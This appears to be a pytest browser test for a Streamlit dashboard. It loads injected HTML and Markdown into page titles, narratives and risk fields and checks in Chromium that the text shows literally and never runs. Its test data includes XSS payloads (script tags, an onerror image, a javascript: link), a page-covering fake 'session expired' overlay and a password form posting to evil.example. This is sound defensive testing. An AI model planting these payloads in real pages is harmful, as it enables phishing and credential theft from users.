"""Loaded text is text, in a real browser: a priority area's title and the adviser's narratives holding HTML, a
script, a ``javascript:`` link, a fake password form, a full-screen fixed ``<div>`` and Markdown directives are
loaded through the loaders; every page that shows them is opened in Chromium, with every expander open.

On each page the text shows literally (the visible text holds the ``<script>`` typed), nothing runs (no dialog, no
console error), no element the text describes exists (no script, image, form, input, link or fixed-position
element from the data, no coloured ``:red[...]``), and nothing covers the page.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from improvement import style
from tests.support import hostile
from tests.support.browser import (
    collect_console_errors,
    page_errors,
    unexpected_console_errors,
    wait_for_rendered,
)
from tests.support.environment import serve_app

pytestmark = pytest.mark.browser

H = hostile.HOSTILE
TITLE = ['<script>alert("title")</script>', ":red[RED]", "**bold**", "$x^2$"]
NARRATIVE = [
    '<div style="position:fixed;inset:0;background:white;z-index:99999">Your session has expired</div>',
    '<form action="https://evil.example/steal"><input name="password" placeholder="Re-enter your password"></form>',
    "<a href=\"javascript:alert('narrative')\">re-enter your password</a> :red[urgent] **bold** $x^2$",
]
PAGES = {  # address: what it must show literally (in its visible text, tables included)
    "": TITLE,  # the Overview: the latest rating per area
    "priority_areas?area=PA1": [*TITLE, *NARRATIVE, "[link](https://evil.example)", ":material/warning: # heading"],
    "rag_history": [
        *TITLE,
        "# heading",
        "- not a list",
        "<script>alert('overall')</script> <img src=x onerror=alert('overall')>",
        H["author"],
    ],
    "review_pack": [*TITLE, *NARRATIVE],
    "action_plan": ["PA1.1 <i>Action</i> :material/warning:", H["action_owner"]],  # the timeline's row, a table
    "risks?risk=R01": [H["risk_owner"], H["mitigation"], "R01 <b>Risk</b> <script>alert('risk')</script>"],
}

# What the page holds that the loaded text describes, and whether anything covers the page.
_INSPECT_JS = """
() => {
    const main = document.querySelector('[data-testid="stMain"]');
    const all = [...document.querySelectorAll('body *')];
    const fromData = [
        ...main.querySelectorAll('script, img, form, input[name="password"], iframe, u, i'),
        ...document.querySelectorAll('a[href^="javascript"], a[href*="evil.example"], .main-svg a'),
        ...[...main.querySelectorAll('[style]')].filter(
            (element) => /position:\\s*fixed/.test(element.getAttribute('style'))
        ),
        ...[...main.querySelectorAll('.main-svg tspan[style*="bold"], .main-svg tspan[style*="italic"]')].filter(
            (tspan) => !tspan.closest('.gtitle, .hoverlayer')  // the dashboard bolds only chart titles and hovers
        ),
        ...[...main.querySelectorAll('span, strong, em, h1, h2, h3, li, del, code')].filter(
            (element) => ['RED', 'urgent', 'RISK', 'bold', 'heading', 'not a list'].includes(element.textContent.trim())
        ),
    ].map((element) => element.outerHTML.slice(0, 160));
    const viewport = window.innerWidth * window.innerHeight;
    const covering = all
        .filter((element) => getComputedStyle(element).position === 'fixed')
        .filter((element) => {
            const box = element.getBoundingClientRect();
            return box.width * box.height > viewport / 4 && getComputedStyle(element).visibility !== 'hidden';
        })
        .map((element) => element.outerHTML.slice(0, 160));
    const points = [[0.5, 0.5], [0.3, 0.3], [0.7, 0.7]].map(([x, y]) => {
        const hit = document.elementFromPoint(window.innerWidth * x, window.innerHeight * y);
        return hit && hit.closest('[data-testid="stAppViewContainer"], [data-testid="stSidebar"]') !== null;
    });
    return {
        fromData,
        covering,
        inApp: points.every(Boolean),
        text: [main.innerText, ...[...main.querySelectorAll('.static-table')].map((t) => t.textContent)].join('\\n'),
    };
}
"""


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, chromium_path) -> Iterator[str]:
    """The app (``streamlit run``) on a database holding the hostile text, loaded through the loaders."""
    folder = tmp_path_factory.mktemp("hostile-browser")
    with serve_app(folder, hostile.hostile_database(folder / "hostile.sqlite")) as base_url:
        yield base_url


def open_every_expander(page) -> None:
    page.evaluate(
        """() => document.querySelectorAll('[data-testid="stExpander"] details:not([open]) > summary')
            .forEach((summary) => summary.click())"""
    )
    wait_for_rendered(page)


@pytest.mark.parametrize("address", list(PAGES), ids=[address.split("?")[0] or "overview" for address in PAGES])
def test_loaded_html_and_markdown_show_as_text_and_never_act(address, hostile_server, browser_page):
    dialogs: list[str] = []
    browser_page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    console_errors = collect_console_errors(browser_page)
    browser_page.goto(f"{hostile_server}/{address}", wait_until="domcontentloaded")
    wait_for_rendered(browser_page)
    open_every_expander(browser_page)
    browser_page.mouse.move(700, 500)  # hover a chart: its hover text is drawn too

    found = browser_page.evaluate(_INSPECT_JS)
    assert page_errors(browser_page) == [], f"{address}: error on the page"
    assert dialogs == [], f"{address}: the loaded text ran: {dialogs}"
    assert unexpected_console_errors(console_errors) == [], f"{address}: console errors"
    assert found["fromData"] == [], f"{address}: elements made from the loaded text"
    assert found["covering"] == [] and found["inApp"], f"{address}: something covers the page: {found['covering']}"
    visible = found["text"].replace(style.WORD_JOINER, "")
    missing = [text for text in PAGES[address] if text not in visible]
    assert missing == [], f"{address}: not shown literally: {missing}"
